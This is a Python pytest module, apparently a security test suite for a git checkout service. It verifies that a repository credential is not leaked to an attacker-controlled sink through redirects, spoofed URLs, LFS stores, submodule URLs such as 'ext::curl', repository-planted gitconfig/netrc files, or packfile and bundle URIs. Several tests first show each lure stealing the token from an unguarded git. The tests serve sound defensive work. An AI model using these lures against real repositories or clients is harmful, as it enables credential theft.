"""What a server or a repository may say to bring the credential elsewhere: redirects, large files, submodules, packs.

Each lure is shown to work on a git without guards first, where one can be had: then the sink finds the token.
"""

from __future__ import annotations

import hashlib
import subprocess
from pathlib import Path

import pytest

from tests.lab.checkout.luring import Lure
from tests.lab.checkout.site import OWNER, Site, submodule

STATUSES = (301, 302, 307, 308)
TOKEN = {OWNER}
ATTRIBUTES = "*.bin filter=lfs diff=lfs merge=lfs -text\n"


def elsewhere(lure: Lure, path: str) -> list[str]:
    """Return addresses of the sink, some of which may be taken for the origin's own."""
    host, origin = lure.sink.host, lure.origin
    return [
        f"https://{host}{path}",
        f"http://{host}{path}",
        f"//{host}{path}",
        f"https://{origin}@{host}{path}",
        f"https://jane:secret@{host}{path}",
        f"https://localhost:{lure.sink.port}{path}",
        f"https://{origin}\\@{host}{path}",
        f"HTTPS://{host}/..{path}",
    ]


@pytest.mark.parametrize("place", ["info/refs", "git-upload-pack"])
async def test_redirects_of_git(lure: Lure, place: str) -> None:
    """Whatever the status, whichever the request, however the address is written."""
    revision = lure.site.commit("web", {"a.txt": "1\n"})
    path = f"/acme/web.git/{place}"
    # As whole as GitHub writes it where a repository has another name by now.
    addresses = elsewhere(lure, path + ("?service=git-upload-pack" if place == "info/refs" else ""))
    for number, address in enumerate(addresses):
        status = STATUSES[number % len(STATUSES)]
        if number < len(STATUSES):
            await lure.redirect(path, addresses[0], status)
            await lure.unguarded("http.followRedirects=true")
            assert await lure.struck()
            assert lure.caught() == TOKEN
            lure.sink.forget()
        await lure.redirect(path, address, status)
        ended = await lure.site.checkout(lure.site.wanted(revision))
        assert await lure.struck(), address
        assert ended.failed is not None, address
        lure.nobody_came()


async def test_a_redirect_to_the_same_place_in_clear_text(lure: Lure) -> None:
    """The sink is the origin here, so it gets the token: over TLS, and never without."""
    url = lure.sink.url("/acme/web.git")
    refs = "/acme/web.git/info/refs?service=git-upload-pack"
    plain = lure.sink.url(refs, scheme="http").encode()
    lure.sink.answer = lambda _: b"HTTP/1.1 301 Moved\r\nLocation: " + plain + b"\r\nContent-Length: 0\r\n\r\n"
    await lure.plain(("-c", "http.followRedirects=true", "ls-remote", url), {})
    assert "http" in lure.sink.spoken
    lure.sink.forget()
    assert (await lure.site.checkout(lure.site.wanted("1" * 40, url=url))).failed is not None
    assert set(lure.sink.spoken) == {"tls/http"}
    assert lure.caught() == TOKEN


# --- large files ---


def large(site: Site) -> dict[str, object]:
    """Return files, one of them large."""
    return {".gitattributes": ATTRIBUTES, "a.bin": site.server.large_files.put(site.repository("web"), b"large")}


@pytest.mark.parametrize("place", ["batch", "????????*"], ids=["batch", "file"])
async def test_redirects_of_large_files(lure: Lure, place: str) -> None:
    revision = lure.site.commit("web", large(lure.site))
    for number, address in enumerate(elsewhere(lure, "/acme/web.git/info/lfs/objects/batch")):
        status = (303, *STATUSES)[number % 5] if place != "batch" else STATUSES[number % 4]
        await lure.redirect(f"/acme/web.git/info/lfs/objects/{place}", address, 302 if status == 303 else status)
        ended = await lure.site.checkout(lure.site.wanted(revision, lfs=True))
        assert await lure.struck(), address
        assert "redirects" in str(ended.failed), address
        lure.nobody_came()


async def test_large_files_that_are_said_to_be_elsewhere(lure: Lure) -> None:
    """With the credential echoed, too: a server may say what is to be shown there."""
    files = large(lure.site)
    for echo in (False, True):
        lure.site.server.large_files.echo = echo
        for address in elsewhere(lure, "")[: 2 if echo else None]:
            lure.site.server.large_files.store = address
            said = await lure.site.refused(files, lfs=True)
            assert "large file" in said, address
            lure.nobody_came()


async def test_a_listed_store_never_gets_the_credential(lure: Lure) -> None:
    """It is asked; and where the server says that it shall be shown the repository's credential, it is not."""
    files = large(lure.site)
    more = {"lfs": True, "lfs_stores": [lure.sink.host]}
    lure.site.server.large_files.store = lure.sink.url()
    # The sink refuses, which no other credential would change.
    assert "the address that it was given for is refused" in await lure.site.refused(files, **more)
    assert lure.sink.spoken == ["tls/http"]
    assert lure.caught() == set()
    lure.sink.forget()
    lure.site.server.large_files.echo = True
    said = await lure.site.refused(files, **more)
    assert f"the repository's own credential to {lure.sink.host}" in said
    lure.nobody_came()


async def test_at_its_own_origin_an_echoed_credential_is_sent(lure: Lure) -> None:
    lure.site.server.large_files.echo = True
    revision = lure.site.commit("web", large(lure.site))
    assert (await lure.site.checkout(lure.site.wanted(revision, lfs=True))).failed is None
    assert (lure.site.workspace / "a.bin").read_bytes() == b"large"


# --- submodules, and other files that git reads ---


def gitmodules(url: str, more: str = "") -> str:
    return f'[submodule "lib"]\n\tpath = lib\n\turl = "{url}"\n{more}'


async def test_submodules_at_a_sink(lure: Lure) -> None:
    """By whole URL, by a relative one that climbs, and from within a submodule."""
    path, inner = "/acme/lib.git", {"lib": submodule("1" * 40)}
    host = lure.sink.host
    relative = [
        f"../../..//{host}{path}",
        f"../../../../{host}{path}",
        f"..//{host}{path}",
        f"./..\\\\..\\\\{host}{path}",
    ]
    others = [f"ssh://{host}{path}", f"git://{host}{path}", f"ext::curl {host}", f"git@127.0.0.1:{lure.sink.port}"]
    spelled = [url.replace("\\", "\\\\") for url in elsewhere(lure, path)]
    for url in (*spelled, *relative, *others):
        files = {".gitmodules": gitmodules(url), **inner}
        await lure.site.refused(files, submodules=True)
        lure.nobody_came()
    nested = lure.site.commit("lib", {".gitmodules": gitmodules(lure.sink.url(path)), **inner})
    files = {".gitmodules": gitmodules("../lib.git"), "lib": submodule(nested)}
    said = await lure.site.refused(files, submodules=True)
    assert f"lib is at {host}" in said
    lure.nobody_came()


async def test_a_submodule_that_is_sent_to_a_sink(lure: Lure) -> None:
    lib = lure.site.commit("lib", {"l": "1\n"})
    for place in ("info/refs", "git-upload-pack"):
        await lure.redirect(f"/acme/lib.git/{place}", lure.sink.url(f"/acme/lib.git/{place}"))
        await lure.site.refused({".gitmodules": gitmodules("../lib.git"), "lib": submodule(lib)}, submodules=True)
        assert await lure.struck()
        lure.nobody_came()


async def test_what_a_repository_configures_is_not_read(lure: Lure) -> None:
    """Under every name that a program reads: the same words lead a git without guards to the sink."""
    web, sink = f"https://{lure.origin}/", lure.sink.url("/")
    evil = (
        f'[url "{sink}"]\n\tinsteadOf = {web}\n[http]\n\tproxy = {lure.sink.url(scheme="http")}\n\tsslVerify = false\n'
        f'[lfs]\n\turl = {sink}\n[remote "origin"]\n\tlfsurl = {sink}\n\turl = {sink}\n\tproxy = {sink}\n'
    )
    login = "machine 127.0.0.1 login x password y\n"
    lib = lure.site.commit("lib", {"l": "1\n", ".lfsconfig": evil, ".gitconfig": evil})
    files = {
        **large(lure.site),
        **dict.fromkeys((".gitconfig", ".lfsconfig", ".config/git/config", "config"), evil),
        ".netrc": login,
        ".curlrc": f"proxy = {lure.sink.host}\n",
        ".git-credentials": sink,
        ".gitmodules": gitmodules("../lib.git", f"\tupdate = checkout\n{evil}[include]\n\tpath = .gitconfig\n"),
        "lib": submodule(lib),
    }
    revision = lure.site.commit("web", files)
    for _ in range(2):
        # A container that starts again reads what is there by now.
        ended = await lure.site.checkout(lure.site.wanted(revision, submodules=True, lfs=True))
        assert ended.failed is None
        lure.nobody_came()
    await lure.unguarded(f"include.path={lure.site.workspace}/.gitconfig")
    assert lure.caught() == TOKEN


# --- what the protocol offers ---


async def test_packs_and_bundles_at_another_place(lure: Lure) -> None:
    """A server may say that part of a pack, or a bundle to begin with, is elsewhere: neither is asked for."""
    site = lure.site
    content = b"kept elsewhere\n"
    revision = site.commit("web", {"a.txt": "1\n", "b.txt": content})
    oid = hashlib.sha1(b"blob %d\0" % len(content) + content, usedforsecurity=False).hexdigest()
    repository = site.server.store.path(site.repository("web"))
    # The second is for servers that know it; others say nothing of it.
    offered = {
        "uploadpack.blobPackfileUri": f"{oid} {'0' * 40} {lure.sink.url('/pack')}",
        "uploadpack.allowSidebandAll": "true",
        "uploadpack.advertiseBundleURIs": "true",
        "bundle.version": "1",
        "bundle.mode": "all",
        "bundle.one.uri": lure.sink.url("/bundle"),
    }
    for name, value in offered.items():
        _configure(repository, name, value)
    clone = ("clone", "--quiet", "--bare")
    await lure.unguarded("fetch.uriProtocols=https", "transfer.bundleURI=true", "protocol.version=2", command=clone)
    assert lure.caught() == TOKEN
    lure.sink.forget()
    ended = await site.checkout(site.wanted(revision))
    assert ended.failed is None
    assert (site.workspace / "b.txt").read_bytes() == content
    lure.nobody_came()


def _configure(repository: Path, name: str, value: str) -> None:
    subprocess.run(["git", "config", "--file", str(repository / "config"), name, value], check=True, timeout=30)
